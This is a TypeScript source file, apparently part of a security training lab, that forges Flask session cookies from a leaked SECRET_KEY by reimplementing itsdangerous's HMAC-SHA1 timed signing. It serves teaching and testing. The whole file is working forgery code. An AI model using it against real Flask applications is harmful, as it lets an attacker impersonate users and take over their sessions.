/**
 * A Flask session cookie signed with a given key: the attacker's side of lesson 09, who holds the
 * SECRET_KEY lesson 01 leaked. Flask 3.1's SecureCookieSessionInterface (src/flask/sessions.py)
 * signs with itsdangerous 2.2's URLSafeTimedSerializer: salt "cookie-session", key derivation
 * "hmac", SHA-1. Written again in TypeScript because the attacker signs on their own machine;
 * held to the real thing by the `forged-session` check itself (a cookie signed with the app's own
 * key must be accepted, or the check fails) and by the reality test against real Flask.
 *
 * itsdangerous 2.2 (src/itsdangerous/url_safe.py, timed.py, signer.py): the payload is the compact
 * JSON, base64url without padding (zlib-compressed with a leading "." only when that is shorter:
 * never for the small sessions forged here); then "." and the time as big-endian bytes, base64url;
 * then "." and base64url(HMAC-SHA1(HMAC-SHA1(secret_key, salt), everything before)).
 */
import { subtleCrypto } from './web-crypto';

const encoder = new TextEncoder();

function base64url(bytes: Uint8Array): string {
  let binary = '';
  for (const byte of bytes) binary += String.fromCharCode(byte);
  return btoa(binary).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
}

async function hmacSha1(key: Uint8Array, data: Uint8Array): Promise<Uint8Array> {
  const imported = await subtleCrypto().importKey('raw', key as BufferSource, { name: 'HMAC', hash: 'SHA-1' }, false, [
    'sign',
  ]);
  return new Uint8Array(await subtleCrypto().sign('HMAC', imported, data as BufferSource));
}

function timestampBytes(seconds: number): Uint8Array {
  const bytes: number[] = [];
  for (let rest = seconds; rest > 0; rest = Math.floor(rest / 256)) bytes.unshift(rest % 256);
  return new Uint8Array(bytes);
}

/** The value of the `session` cookie Flask would set for `session` under `secretKey`, now. */
export async function forgeFlaskSession(
  session: Record<string, string>,
  secretKey: string,
  now = Date.now(),
): Promise<string> {
  // Flask's TaggedJSONSerializer leaves a dict of strings as plain JSON, written compactly.
  const payload = base64url(encoder.encode(JSON.stringify(session)));
  const value = `${payload}.${base64url(timestampBytes(Math.floor(now / 1000)))}`;
  const derived = await hmacSha1(encoder.encode(secretKey), encoder.encode('cookie-session'));
  return `${value}.${base64url(await hmacSha1(derived, encoder.encode(value)))}`;
}
